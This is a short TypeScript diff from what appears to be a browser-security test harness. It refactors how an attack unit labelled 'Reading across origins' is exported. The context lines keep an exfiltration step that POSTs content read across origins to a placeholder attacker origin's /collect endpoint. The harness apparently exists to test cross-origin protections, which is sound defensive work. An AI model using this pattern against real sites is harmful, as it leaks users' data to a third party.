@@ -5,7 +5,7 @@ import { ATTACKER_ORIGIN } from '../origins';
 import { THIRD_PARTY_COOKIES } from '../attacker/assumed';
 import type { AttackUnit } from '../attacker/attack';
 
-const attack: AttackUnit = {
+export default {
   order: 23,
   group: 'requests from elsewhere',
   label: 'Reading across origins',
@@ -24,6 +24,4 @@ const attack: AttackUnit = {
     if (status === 200)
       await page.send('POST', `${ATTACKER_ORIGIN}/collect`, [], content, { mode: 'no-cors' });
   },
-};
-
-export default attack;
+} satisfies AttackUnit;
